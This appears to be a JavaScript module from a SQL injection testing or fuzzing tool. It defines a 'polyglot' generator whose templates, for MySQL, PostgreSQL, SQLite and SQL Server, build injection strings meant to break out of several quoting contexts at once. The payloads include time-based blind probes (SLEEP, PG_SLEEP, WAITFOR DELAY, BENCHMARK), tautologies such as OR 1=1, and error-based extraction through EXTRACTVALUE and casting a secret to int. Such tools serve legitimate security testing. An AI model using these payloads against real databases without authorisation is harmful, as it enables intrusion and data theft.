import { WHERE_PLACES } from '../place.js';
import { sqlGenerator } from '../sql-generator.js';

const ANYWHERE = WHERE_PLACES.filter(({ depth, context }) => depth === 0 && context !== 'like');

/** One text for several places at once: each reads a part of it and takes the rest for a comment or a literal. */
export const polyglot = sqlGenerator({
  name: 'polyglot',
  places: ANYWHERE,
  rules: { and: ['or', 'OR', 'xor', '||'] },
  byDialect: {
    mysql: {
      start: [
        `{act}/*' {and} {act} {and} '" {and} {act} {and} "*/`,
        `{n:a}/*'/*"/**/{and} {act}/*'*/`,
        `'-{act}-'/*"-{act}-"*/`,
        `{n:a} {and} {act}#' {and} {act}#" {and} {act}#`,
        `{n:a}*{act}/*'*{act}*'"*{act}*"*/`,
        `IF({n:b}={n:b},{act},0)/*'XOR(IF({n:b}={n:b},{act},0))OR'|"XOR(IF({n:b}={n:b},{act},0))OR"*/`,
      ],
      act: [
        'SLEEP({sec})',
        'sleep({sec})',
        '1=1',
        '(select(0)from(select(sleep({sec})))v)',
        'EXTRACTVALUE(1,{joined})',
        'BENCHMARK(9000000,MD5(1))',
        '{n:c}={n:c}',
      ],
      n: ['1', '0', '{digit}', '{scan}'],
    },
    postgres: {
      start: [
        `{n}/*'||{act}--*/`,
        `{n} OR {act}--' OR {act}--`,
        `'||{act}||'`,
        `{n}-- ' OR {act}--`,
        `{n} OR {act}/*' OR {act}--*/--`,
      ],
      act: ['1=1', '(SELECT 1 FROM PG_SLEEP({sec}))=1', 'EXISTS(SELECT 1)', 'CAST({secret} AS int)=1'],
      n: ['1', '0', '{digit}', '{scan}'],
    },
    sqlite: {
      start: [
        `{n} OR {act}--' OR {act}--" OR {act}--`,
        `{n}/*' OR {act}--" OR {act}--*/ OR {act}`,
        `'||{act}||'/*"||{act}||"*/`,
        `{n} OR {act} /*' OR {act} OR '*/`,
      ],
      act: ['1=1', 'randomblob(3000000) IS NOT NULL', '(SELECT 1 FROM users LIMIT 1)', '1', '{n:c}={n:c}'],
      n: ['1', '0', '{digit}', '{scan}'],
    },
    mssql: {
      // The first quote of either kind must be the one that closes a string.
      start: [
        `{n}/*';waitfor delay '0:0:{sec}'--";waitfor delay '0:0:{sec}'--*/;waitfor delay '0:0:{sec}'--`,
        `{n} OR 1=1--' OR 1=1--" OR 1=1--`,
      ],
      n: ['1', '0', '{digit}'],
    },
  },
});
